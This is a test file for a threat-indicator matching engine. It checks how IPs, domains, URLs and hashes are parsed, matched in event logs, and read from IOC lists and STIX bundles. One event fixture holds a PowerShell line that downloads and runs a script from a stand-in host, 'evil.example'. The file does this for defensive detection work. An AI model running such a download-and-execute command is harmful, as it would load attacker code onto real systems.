import { createHash } from 'node:crypto'
import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import {
  ChunkMatcher,
  Engine,
  EventView,
  type IndicatorSet,
  IndicatorSetBuilder,
  parseIndicator,
  readIndicators,
  readRules,
  UnreadableList,
} from '../src/index.ts'
import { indicatorsOfPattern } from '../src/indicators/stix.ts'

const engine = Engine.compile(readRules([]))

function setOf(...values: readonly string[]): IndicatorSet {
  const builder = new IndicatorSetBuilder()
  for (const value of values) builder.add(parseIndicator(value)?.key ?? `not an indicator: ${value}`)
  return builder.finish()
}

/** The keys that the scanner and the set together find in each event. */
function seen(set: IndicatorSet, ...events: readonly unknown[]): string[][] {
  const lines = events.map(event => (typeof event === 'string' ? event : JSON.stringify(event)))
  const { sightings } = new ChunkMatcher(engine, set).match(Buffer.from(lines.join('\n')))
  return lines.map((_, i) =>
    sightings
      .filter(({ line }) => line === i)
      .flatMap(({ found }) => found.map(({ key }) => key))
      .sort(),
  )
}

const md5 = createHash('md5').update('x').digest('hex')
const sha256 = createHash('sha256').update('x').digest('hex')

describe('an indicator is written in one way', () => {
  test.each([
    ['198.51.100.7', 'ipv4-addr', '198.51.100.7'],
    [' 198.51.100.7 ', 'ipv4-addr', '198.51.100.7'],
    ['198.51.100.7:4443', 'ipv4-addr', '198.51.100.7'],
    ['198.51.100.77/24', 'ipv4-addr', '198.51.100.0/24'],
    ['198.51.100.7/32', 'ipv4-addr', '198.51.100.7'],
    ['198[.]51[.]100[.]7', 'ipv4-addr', '198.51.100.7'],
    ['::ffff:198.51.100.7', 'ipv4-addr', '198.51.100.7'],
    ['2001:DB8:0:0:0:0:0:1', 'ipv6-addr', '2001:db8::1'],
    ['2001:db8::/32', 'ipv6-addr', '2001:db8::/32'],
    ['Evil.Example.', 'domain-name', 'evil.example'],
    ['evil[.]example', 'domain-name', 'evil.example'],
    ['*.evil.example', 'domain-name', '.evil.example'],
    ['.evil.example', 'domain-name', '.evil.example'],
    ['bücher.example', 'domain-name', 'xn--bcher-kva.example'],
    ['hxxps://Evil[.]example/A/B?c=d#e', 'url', 'https://evil.example/a/b?c=d'],
    ['http://evil.example/', 'url', 'http://evil.example'],
    [md5.toUpperCase(), 'file-hash', md5],
    [sha256, 'file-hash', sha256],
  ])('%s', (text, kind, key) => expect(parseIndicator(text)).toEqual({ kind, key }))

  test.each(['', '-', 'evil', 'not a thing', '12345', '999.1.2.3', 'a'.repeat(32).replace(/.$/, 'g'), '10.0.0.0/40', 'http:///', '1.2', 'x@y', '<b>.example'])(
    'none: %s',
    text => expect(parseIndicator(text)).toBeUndefined(),
  )
})

describe('in the fields of events', () => {
  test.each<[string, string, unknown, string[]]>([
    ['an address', '198.51.100.7', { DestinationIp: '198.51.100.7' }, ['198.51.100.7']],
    ['a nested address', '198.51.100.7', { Event: { EventData: { DestinationIp: '198.51.100.7' } } }, ['198.51.100.7']],
    ['an address with a port', '198.51.100.7', { 'source.address': '198.51.100.7:443' }, ['198.51.100.7']],
    ['an address in a network', '198.51.100.0/24', { source: { ip: '198.51.100.200' } }, ['198.51.100.0/24']],
    ['an address beside a network', '198.51.100.0/25', { source: { ip: '198.51.100.200' } }, []],
    ['IPv6 in its long form', '2001:db8::1', { DestinationIp: '2001:0DB8:0:0:0:0:0:1' }, ['2001:db8::1']],
    ['IPv6 in a network', '2001:db8::/32', { DestinationIp: '2001:db8:ffff::2' }, ['2001:db8::/32']],
    ['IPv6 with a zone', 'fe80::1', { DestinationIp: 'fe80::1%eth0' }, ['fe80::1']],
    ['IPv4 mapped into IPv6', '198.51.100.7', { DestinationIp: '::ffff:198.51.100.7' }, ['198.51.100.7']],
    ['a longer address is another', '198.51.100.7', { DestinationIp: '198.51.100.77' }, []],
    ['a domain without case and last dot', 'evil.example', { QueryName: 'EVIL.example.' }, ['evil.example']],
    ['a name under it is another', 'evil.example', { QueryName: 'www.evil.example' }, []],
    ['a name under one that stands for all', '*.evil.example', { QueryName: 'a.b.evil.example' }, ['.evil.example']],
    ['that one itself', '*.evil.example', { QueryName: 'evil.example' }, ['.evil.example']],
    ['not one that only ends alike', '*.evil.example', { QueryName: 'notevil.example' }, []],
    ['Sysmon’s hashes', sha256, { Hashes: `MD5=${md5.toUpperCase()},SHA256=${sha256.toUpperCase()},IMPHASH=00` }, [sha256]],
    ['a URL in a command', 'http://evil.example/x.ps1', { CommandLine: "powershell iwr 'http://evil.example/x.ps1' | iex" }, ['http://evil.example/x.ps1']],
    ['a domain in a URL in a command', 'evil.example', { CommandLine: 'curl -s https://evil.example:8443/x' }, ['evil.example']],
    ['an address in a message', '198.51.100.7', { message: 'Failed password for root from 198.51.100.7 port 22 ssh2.' }, ['198.51.100.7']],
    ['at a line’s end in a script', 'evil.example', { ScriptBlockText: 'a\nevil.example\r\nb' }, ['evil.example']],
    ['after a backslash', 'evil.example', { CommandLine: '\\\\evil.example\\share' }, ['evil.example']],
    ['in a list', '198.51.100.7', { dns: { resolved_ip: ['192.0.2.1', '198.51.100.7'] } }, ['198.51.100.7']],
    ['not where nobody looks', '198.51.100.7', { Version: '198.51.100.7' }, []],
    ['a name of other letters', 'bücher.example', { QueryName: 'BÜCHER.example' }, ['xn--bcher-kva.example']],
    ['one that is written with escapes', 'evil.example', '{"QueryName":"\\u0065vil.example"}', ['evil.example']],
    ['a URL with escaped slashes', 'http://evil.example/a', '{"url":{"full":"http:\\/\\/evil.example\\/a"}}', ['http://evil.example/a']],
    ['a key that stands twice', '198.51.100.7', '{"DestinationIp":"192.0.2.1","DestinationIp":"198.51.100.7"}', ['198.51.100.7']],
    ['two in one', '198.51.100.7', { SourceIp: '198.51.100.7', DestinationIp: '198.51.100.7' }, ['198.51.100.7']],
  ])('%s', (_, indicator, event, keys) => expect(seen(setOf(indicator), event)).toEqual([keys]))

  test('a set without anything finds nothing', () => expect(seen(setOf(), { DestinationIp: '198.51.100.7' })).toEqual([[]]))

  test('rules and indicators are told of the same event', () => {
    const both = Engine.compile(
      readRules([
        { name: 'r', text: 'title: T\nid: r\nlogsource: {category: network_connection}\ndetection:\n  s:\n    DestinationIp: 198.51.100.7\n  condition: s\n' },
      ]),
    )
    const found = new ChunkMatcher(both, setOf('198.51.100.7')).match(Buffer.from('{"a":1}\n{"DestinationIp":"198.51.100.7"}'))
    expect(found.matches.map(({ line }) => line)).toEqual([1])
    expect(found.sightings).toMatchObject([{ line: 1, found: [{ key: '198.51.100.7', field: 'DestinationIp', value: '198.51.100.7' }] }])
  })
})

test('property: the scanner misses nothing that the set finds', () => {
  const hex = (length: number) =>
    fc.array(fc.constantFrom(...'0123456789abcdefABCDEF'), { minLength: length, maxLength: length }).map(letters => letters.join(''))
  const label = fc.stringMatching(/^[a-zA-Z0-9_-]{1,6}$/)
  const host = fc.array(label, { minLength: 2, maxLength: 4 }).map(labels => labels.join('.'))
  const v6 = fc.oneof(fc.ipV6(), fc.constantFrom('::', '::1', '1::', 'fe80::1', '2001:db8:0:0:0:0:0:1', '::ffff:1.2.3.4', '64:ff9b::1.2.3.4'))
  const path = fc.stringMatching(/^[a-zA-Z0-9/?&=._#,;:)-]{0,12}$/)
  const url = fc.tuple(fc.constantFrom('http', 'HTTPS', 'ftp', 'x-y+z'), host, path).map(([scheme, name, rest]) => `${scheme}://${name}/${rest}`)
  const good = fc.oneof(fc.ipV4(), v6, host, url, hex(32), hex(40), hex(64))
  const noise = fc.constantFrom(
    ' ',
    '\n',
    '\t',
    '"',
    "'",
    '\\',
    '/',
    ':',
    '::',
    '.',
    ',',
    '=',
    '(',
    ')',
    '|',
    'é',
    'K',
    '。',
    '\u{1f600}',
    '\ud800',
    '%',
    '@',
    '[',
    ']',
    '{',
    '#',
    '://',
    'a',
    '0',
  )
  const value = fc.array(fc.oneof(good, noise), { minLength: 1, maxLength: 8 }).map(parts => parts.join(''))
  const field = fc.constantFrom('CommandLine', 'DestinationIp', 'QueryName', 'Hashes')
  const event = fc.dictionary(field, fc.oneof(value, fc.array(value, { maxLength: 3 })), { maxKeys: 3 })
  const widen = fc.constantFrom('', '/8', '/24', '/64', '/0')
  fc.assert(
    fc.property(fc.array(event, { minLength: 1, maxLength: 4 }), fc.array(fc.tuple(good, widen)), fc.boolean(), (events, others, isEscaped) => {
      const builder = new IndicatorSetBuilder()
      const mentioned = events.flatMap(one => Object.values(one).flat()).flatMap(text => text.split(/[\s"'=,|()]+/))
      for (const text of [...others.map(([given, wide]) => given + wide), ...mentioned, ...mentioned.map(given => `.${given.replace(/^[^.]*\./, '')}`)]) {
        const key = parseIndicator(text)?.key
        if (key !== undefined) builder.add(key)
      }
      const set = builder.finish()
      const lines = events.map(one =>
        isEscaped ? JSON.stringify(one).replaceAll(/[^\x20-\x7e]/g, unit => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`) : JSON.stringify(one),
      )
      const exact = lines.map(line =>
        set
          .find(new EventView(line))
          .map(({ key }) => key)
          .sort(),
      )
      expect(seen(set, ...lines)).toEqual(exact)
    }),
    { numRuns: 2_000 },
  )
})

async function read(
  ...pieces: readonly (string | Buffer)[]
): Promise<{ keys: string[]; described: string[]; problems: string[]; until: (string | undefined)[] }> {
  const source = (async function* () {
    for (const piece of pieces) yield Buffer.from(piece)
  })()
  const found = { keys: [] as string[], described: [] as string[], problems: [] as string[], until: [] as (string | undefined)[] }
  for await (const { indicators, problems } of readIndicators(source)) {
    found.keys.push(...indicators.map(({ key }) => key))
    found.described.push(...indicators.map(({ description }) => description))
    found.until.push(...indicators.map(({ validUntil }) => validUntil))
    found.problems.push(...problems.map(({ at, reason }) => `${at}: ${reason}`))
  }
  return found
}

describe('lists', () => {
  test('a line each, with comments, and a URL that has commas', async () => {
    const { keys, problems } = await read('# bad ones\n198.51.100.7\n\nhttp://evil.example/a,b;c?d\nevil.example # why\n0.0.0.0 ads.example\nnonsense\n')
    expect(keys).toEqual(['198.51.100.7', 'http://evil.example/a,b;c?d', 'evil.example', 'ads.example'])
    expect(problems).toEqual(['line 7: no IP address, domain, URL or hash found: nonsense'])
  })

  test('a CSV by the names of its columns', async () => {
    const { keys, described, until } = await read('id,IOC,Description,valid_until\n1,"evil.example","a, b",2027-01-01\n2,198.51.100.0/24,,\n')
    expect(keys).toEqual(['evil.example', '198.51.100.0/24'])
    expect(described).toEqual(['a, b', ''])
    expect(until).toEqual(['2027-01-01T00:00:00.000Z', undefined])
  })

  test('a CSV whose header is a comment, with quotes, in pieces', async () => {
    const { keys, described } = await read(
      '# made yesterday\n# "first_seen_utc","ioc_id","ioc_value","malware_printable"\n"2026-01-01 00:00:00", "7", "198.51.',
      '100.7:4443", "Bad"\n',
    )
    expect(keys).toEqual(['198.51.100.7'])
    expect(described).toEqual(['Bad'])
  })

  test('compressed', async () => {
    const packed = gzipSync('198.51.100.7\n')
    expect((await read(packed.subarray(0, 10), packed.subarray(10))).keys).toEqual(['198.51.100.7'])
    await expect(read(packed.subarray(0, 15))).rejects.toThrow(new UnreadableList('is not valid gzip'))
  })

  test('a STIX bundle', async () => {
    const indicator = (id: string, pattern: string, more: object = {}) => ({
      type: 'indicator',
      id,
      name: 'N',
      description: 'D',
      pattern,
      pattern_type: 'stix',
      ...more,
    })
    const { keys, problems, described, until } = await read(
      JSON.stringify({
        type: 'bundle',
        objects: [
          { type: 'malware', id: 'm' },
          indicator('a', "[ipv4-addr:value = '198.51.100.7']", { valid_until: '2027-01-01T00:00:00Z' }),
          indicator('b', "[domain-name:value = 'gone.example']", { revoked: true }),
          indicator('c', "[file:name = 'x.exe']"),
          indicator('d', 'alert tcp', { pattern_type: 'snort' }),
        ],
      }),
    )
    expect(keys).toEqual(['198.51.100.7'])
    expect(described).toEqual(['N: D'])
    expect(until).toEqual(['2027-01-01T00:00:00.000Z'])
    expect(problems).toEqual(['c: file:name is not supported; only IP addresses, domains, URLs and file hashes are', 'd: its pattern type is snort, not stix'])
  })

  test('property: whatever comes, it is read or refused in a sentence', async () => {
    const piece = fc.oneof(
      fc.constantFrom('198.51.100.7', 'evil.example', '"', ',', ';', '\t', '\n', '\r\n', '#', '{', '"objects":[', '\0', '\ufeff', 'ioc'),
      fc.string({ maxLength: 5 }),
      fc.uint8Array({ maxLength: 5 }),
    )
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 30 }), async pieces => {
        try {
          for (const key of (await read(...pieces.map(one => Buffer.from(one as string)))).keys) expect(parseIndicator(key)?.key).toBe(key)
        } catch (error) {
          expect(error).toBeInstanceOf(UnreadableList)
        }
      }),
      { numRuns: 500 },
    )
  })

  test('what is no list says so', async () => {
    await expect(read('{"a":1')).rejects.toThrow('looks like a STIX bundle but is not valid JSON')
    await expect(read('{"a":1}')).rejects.toThrow('not a STIX 2.1 bundle')
    expect((await read('')).keys).toEqual([])
  })
})

describe('STIX patterns', () => {
  test.each([
    ["[ipv4-addr:value = '198.51.100.7']", ['198.51.100.7']],
    ["[ipv4-addr:value ISSUBSET '198.51.100.0/24']", ['198.51.100.0/24']],
    ["[domain-name:value = 'a.example' OR url:value = 'http://a.example/x']", ['a.example', 'http://a.example/x']],
    ["[domain-name:value = 'a.example'] OR [domain-name:value = 'b.example']", ['a.example', 'b.example']],
    ["([domain-name:value IN ('a.example', 'b.example')])", ['a.example', 'b.example']],
    [`[file:hashes.MD5 = '${md5}' AND file:hashes.'SHA-256' = '${sha256}']`, [md5, sha256]],
    ["[network-traffic:dst_ref.value = '198.51.100.7']", ['198.51.100.7']],
    ["[url:value = 'http://a.example/it\\'s']", undefined],
  ])('%s', (pattern, keys) => {
    if (keys === undefined) expect(() => indicatorsOfPattern(pattern)).toThrow('is not an IP address, domain, URL or hash')
    else expect(indicatorsOfPattern(pattern).map(({ key }) => key)).toEqual(keys)
  })

  test.each([
    ["[ipv4-addr:value = '198.51.100.7' AND network-traffic:dst_port = 443]", 'network-traffic:dst_port is not supported'],
    ["[ipv4-addr:value = '198.51.100.7'] AND [domain-name:value = 'a.example']", 'AND spans multiple events'],
    ["[ipv4-addr:value = '198.51.100.7'] FOLLOWEDBY [domain-name:value = 'a.example']", 'FOLLOWEDBY spans multiple events'],
    ["[ipv4-addr:value = '198.51.100.7'] REPEATS 5 TIMES", 'REPEATS spans multiple events'],
    ["[domain-name:value LIKE 'a%']", 'LIKE is not supported'],
    ["[domain-name:value = 'a.example' AND domain-name:value = 'b.example']", 'AND combines several values'],
    ["[domain-name:value != 'a.example']", '!= is not supported'],
    ["[NOT domain-name:value = 'a.example']", 'NOT is not an object path'],
    ["[domain-name:value = 'a.example'", '] is missing before the end'],
    ['', '[ is missing'],
    ['[ipv4-addr:value =', 'is incomplete'],
    ['§', 'cannot be read at character 1'],
  ])('%s', (pattern, reason) => expect(() => indicatorsOfPattern(pattern)).toThrow(reason))

  test('property: any text is read or refused, never more', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('[', ']', '(', ')', "'", 'a', ' OR ', ' AND ', 'ipv4-addr:value', '=', "'1.2.3.4'", ',', ' IN ', '\\'), { maxLength: 30 }),
        parts => {
          try {
            indicatorsOfPattern(parts.join(''))
          } catch (error) {
            expect((error as Error).name).toBe('UnsupportedPattern')
          }
        },
      ),
    )
  })
})
